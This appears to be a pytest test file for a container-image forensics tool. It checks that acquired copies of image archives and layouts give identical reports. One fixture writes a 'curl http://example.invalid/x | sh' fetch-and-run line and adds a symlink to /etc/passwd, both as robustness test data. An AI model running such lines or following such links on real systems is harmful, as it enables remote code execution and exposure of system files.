"""An acquired image gives the report of the image itself, without anything but what was written."""

from __future__ import annotations

import gzip
import tarfile
from pathlib import Path

import msgspec
import pytest

from forensics.acquisition import Acquired, acquire
from forensics.cancellation import Cancellation
from forensics.pipeline import Options, Session
from forensics.reports import reports
from forensics.sources import open_image
from forensics.spool import Spool

SNYK = "snyk-docker-plugin__"
ARCHIVES = {
    "docker-save of the old form": "container-inspector__cli_hello-world.tar",
    "two documents in one archive": SNYK + "containerd-archives_busybox.arm64.tar",
    "attestations": SNYK + "containerd-archives_busybox-single-arch-with-attestation-manifest.tar",
    "OCI archive, gzip": "dive__test-oci-gzip-image.tar",
    "OCI archive, zstd": "dive__test-oci-zstd-image.tar",
    "kaniko": SNYK + "kaniko-archives_kaniko-busybox.tar",
    "jib": "jib__extraction_jib-image.tar",
    "skopeo, compressed layers": SNYK + "docker-archives_skopeo-copy_nginx-compressed-layers.tar",
    "Docker 25": "ggcr__tarball_hello-world-v25.tar",
    "whiteouts": "ggcr__mutate_whiteout_image.tar",
    "links": "osv-scalibr__layerscanning_image_symlink-cycle.tar",
}


def written(reference: str, target: Path, **choice: object) -> Acquired:
    with Spool() as spool, open_image(reference, spool=spool, **choice) as opened:  # type: ignore[arg-type]
        return acquire(opened, target, cancel=Cancellation())


def report(reference: str, **choice: object) -> str:
    """The JSON report without what may differ: timings, the time of the run, and the source."""
    with Session(reference, Options(jobs=1, **choice)) as session:  # type: ignore[arg-type]
        found = session.analyze()
    replace = msgspec.structs.replace
    timeless = replace(
        found,
        timings={},
        tool=replace(found.tool, started=""),
        image=replace(found.image, source=""),
    )
    return reports()["json"].render(timeless)


def check(reference: str, folder: Path, **choice: object) -> None:
    direct = report(reference, **choice)
    for target in (folder / "acquired", folder / "acquired.tar"):
        written(reference, target, **choice)
        assert report(str(target)) == direct, target.name


@pytest.mark.corpus
@pytest.mark.parametrize("name", ARCHIVES.values(), ids=ARCHIVES)
def test_an_archive_acquired_gives_its_own_report(corpus: Path, tmp_path: Path, name: str) -> None:
    check(str(corpus / "images" / name), tmp_path)


@pytest.mark.corpus
def test_an_archive_in_a_compression_gives_its_own_report(corpus: Path, tmp_path: Path) -> None:
    wrapped = tmp_path / "wrapped"
    content = (corpus / "images" / "osv-scalibr__layerscanning_image_basic.tar").read_bytes()
    wrapped.write_bytes(gzip.compress(content, mtime=0))
    check(str(wrapped), tmp_path)


@pytest.mark.corpus
def test_a_folder_of_a_layout_gives_its_own_report(corpus: Path, tmp_path: Path) -> None:
    layout = tmp_path / "layout"
    with tarfile.open(corpus / "images" / "dive__test-oci-gzip-image.tar") as archive:
        archive.extractall(layout, filter="data")
    blobs = layout / "blobs" / "sha256"
    (blobs / ("0" * 64)).symlink_to("/etc/passwd")
    (blobs / ("1" * 64)).write_bytes(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    (blobs / "odd" / "name").mkdir(parents=True)
    (blobs / "odd" / "name" / "file").write_bytes(b"\x7fELF unnamed")
    (layout / "beside.txt").write_bytes(b"no part of the layout")
    check(str(layout), tmp_path)


@pytest.mark.corpus
def test_one_of_several_images_stays_chosen(corpus: Path, tmp_path: Path) -> None:
    check(str(corpus / "images" / "regclient__testrepo.ocilayout.tar"), tmp_path, image=1)


def test_a_root_filesystem_gives_its_own_report(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "motd").write_text("good morning\n")
    (root / "etc" / "link").symlink_to("motd")
    (root / "etc" / ".wh.odd").write_text("no marker\n")
    check(str(root), tmp_path)
